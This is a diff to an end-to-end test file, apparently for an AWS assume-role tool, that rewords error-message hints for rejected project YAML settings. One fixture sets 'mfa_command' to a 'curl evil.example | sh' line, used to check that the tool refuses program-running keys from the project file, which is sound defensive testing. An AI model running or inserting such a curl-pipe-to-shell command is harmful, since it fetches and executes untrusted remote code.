@@ -85,12 +85,12 @@ e2e(
       [
         "role_prefix: a\nrole_prefix: b\n",
         "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
-        "the file is YAML, one 'key: value' a line",
+        "write the file as YAML, one 'key: value' per line",
       ],
       [
         `${PREFIX}mfa_command: curl evil.example | sh\n`,
         "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
-        "put it into ~/.aws/assume-role.yaml",
+        "move 'mfa_command' to ~/.aws/assume-role.yaml",
       ],
       [
         "role_prefix: arn:aws:iam::111:role/\n",
